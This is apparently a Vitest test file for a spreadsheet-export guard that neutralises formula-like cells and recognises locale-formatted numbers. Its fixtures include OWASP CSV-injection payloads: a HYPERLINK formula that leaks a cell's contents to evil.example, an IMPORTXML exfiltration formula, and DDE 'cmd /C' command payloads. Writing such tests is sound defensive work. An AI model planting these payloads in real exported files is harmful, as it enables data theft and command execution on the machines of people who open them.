import { describe, expect, it } from 'vitest';
import {
  isFormulaLike,
  isLocaleNumber,
  neutralizeCell,
} from '../../../src/main/core/export/formula-guard';

// [input, expected output of neutralizeCell]
const NEUTRALISED: [string, string][] = [
  // OWASP CSV-injection examples
  [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    `'=HYPERLINK("http://evil.example/?leak="&A1,"Klik")`,
  ],
  ['=1+1', "'=1+1"],
  ['@SUM(1+1)', "'@SUM(1+1)"],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["=cmd|' /C notepad'!'A1'", "'=cmd|' /C notepad'!'A1'"],
  ['=IMPORTXML(CONCAT("http://x/?", A1), "//a")', `'=IMPORTXML(CONCAT("http://x/?", A1), "//a")`],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ['\0abc', "'\0abc"],
  ['-', '-'],
  ['–', '–'],
  ['--', "'--"],
  ['+', "'+"],
  ['=', "'="],
  ['@', "'@"],
  ['@budi', "'@budi"],
  ['-1-1', "'-1-1"],
  ['+62 812', "'+62 812"],
  ['-2024-01-01', "'-2024-01-01"],
  ['- 5', "'- 5"],
  ['-1e', "'-1e"],
  ['-1.23.4,5', "'-1.23.4,5"],
  ['-Rp 5.000', "'-Rp 5.000"],
];

const UNCHANGED: string[] = [
  '',
  'Balikpapan Timur',
  '64.71.01',
  '007',
  '2024-01-01',
  'a=b',
  ' =1+1 is text to Excel',
  "'=already quoted",
  // numbers in either locale, signed ones too
  '-12',
  '+12',
  '-3.5',
  '+3,5',
  '-1.234,56',
  '-1,234.56',
  '-1.234.567',
  '+1,234,567.89',
  '-1e5',
  '+1E-3',
  '-2,5e3',
  '-.5',
  '-,5',
  '-5%',
  '-2,5%',
  '+62812345678',
];

describe('neutralizeCell', () => {
  it.each(NEUTRALISED)('neutralises %j', (input, expected) => {
    expect(isFormulaLike(input)).toBe(input !== '-' && input !== '–');
    expect(neutralizeCell(input)).toBe(expected);
  });

  it.each(UNCHANGED)('keeps %j', (input) => {
    expect(isFormulaLike(input)).toBe(false);
    expect(neutralizeCell(input)).toBe(input);
  });

  it('is idempotent', () => {
    for (const [input] of NEUTRALISED) {
      const once = neutralizeCell(input);
      expect(neutralizeCell(once)).toBe(once);
    }
  });
});

describe('isLocaleNumber', () => {
  it.each([
    ['12', true],
    ['1.234', true],
    ['1,234', true],
    ['1.234,5', true],
    ['1,234.5', true],
    ['1.23.4', false],
    ['1,2,3', false],
    ['12a', false],
    ['e5', false],
    ['1e5', true],
    ['', false],
  ])('%j → %s', (value, expected) => {
    expect(isLocaleNumber(value)).toBe(expected);
  });
});
